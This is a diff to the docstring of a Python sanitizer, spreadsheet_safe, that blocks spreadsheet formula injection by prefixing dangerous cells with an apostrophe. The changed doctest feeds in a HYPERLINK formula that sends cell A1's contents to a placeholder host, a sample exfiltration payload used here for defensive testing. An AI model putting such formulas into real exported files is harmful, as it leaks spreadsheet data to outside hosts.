@@ -112,8 +112,8 @@ def spreadsheet_safe(value: object) -> str:
     line feed gets a leading apostrophe, which those programs show as the
     same text. Numbers printkit writes (``int``) and empty cells are kept.
 
-    >>> spreadsheet_safe('=HYPERLINK("http://x?a="&A1,"Click")')
-    '\'=HYPERLINK("http://x?a="&A1,"Click")'
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x?a="&A1,"Click")'))
+    '=HYPERLINK("http://x?a="&A1,"Click")
     >>> spreadsheet_safe("Ada"), spreadsheet_safe(-3), spreadsheet_safe(None)
     ('Ada', '-3', '')
     """
